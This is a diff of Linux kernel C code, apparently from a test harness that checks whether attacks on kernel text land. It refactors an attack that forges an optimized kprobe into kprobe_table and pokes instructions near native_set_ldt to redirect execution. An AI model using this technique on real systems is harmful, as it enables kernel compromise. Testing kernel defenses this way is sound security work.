@@ -8,7 +8,6 @@
  * One byte at a time: a fence that asks about a store next to its trap is asked before one gets
  * there.
  */
-#include <linux/hash.h>
 #include <linux/kprobes.h>
 #include <linux/string.h>
 
@@ -16,29 +15,8 @@
 #include "registers.h"
 
 #define BACK 2	      /* a conditional jump stands before it: the probe's place */
-#define BUCKET_BITS 6 /* kernel/kprobes.c KPROBE_HASH_BITS */
 
 static struct optimized_kprobe probe;
-
-static bool forge(u8 *at)
-{
-	struct hlist_head *table = rf_symbol("kprobe_table");
-	void *aggregator = rf_symbol("aggr_pre_handler");
-
-	if (!table || !aggregator)
-		return false;
-	memset(&probe, 0, sizeof(probe));
-	probe.kp.addr = at;
-	probe.kp.opcode = at[0];
-	probe.kp.pre_handler = aggregator;
-	INIT_LIST_HEAD(&probe.kp.list);
-	INIT_LIST_HEAD(&probe.list);
-	memcpy(probe.optinsn.copied_insn, at + 1, sizeof(probe.optinsn.copied_insn));
-	probe.optinsn.insn = (void *)rf_forged;
-	probe.optinsn.size = 16;
-	hlist_add_head_rcu(&probe.kp.hlist, &table[hash_ptr(at, BUCKET_BITS)]);
-	return true;
-}
 
 /* The int3 protocol, the tail byte by byte. */
 static void write_insn(u8 *at, const u8 *insn)
@@ -62,7 +40,7 @@ void attack_probe_over_trap(struct rf_report *r)
 		return rf_skip(r, "native_set_ldt() is built otherwise here");
 	if (!rf_aim_at(r, "native_set_ldt", at - BACK, RF_INSN) || !rf_poke_begin(r))
 		return;
-	if (!rf_poke_record(true) || !forge(r->at)) {
+	if (!rf_poke_record(true) || !rf_forge_probe(&probe, r->at, r->at, (void *)rf_forged)) {
 		rf_poke_end(r);
 		return rf_skip(r, "this kernel keeps its probes or its patcher's record elsewhere");
 	}
@@ -83,6 +61,6 @@ void attack_probe_over_trap(struct rf_report *r)
 		r->outcome = RF_LANDED;
 	else if (memcmp(r->at, r->before, RF_INSN))
 		rf_kept(r, "text", false);
-	hlist_del_rcu(&probe.kp.hlist);
+	rf_unforge_probe(&probe);
 	rf_poke_record(false);
 }
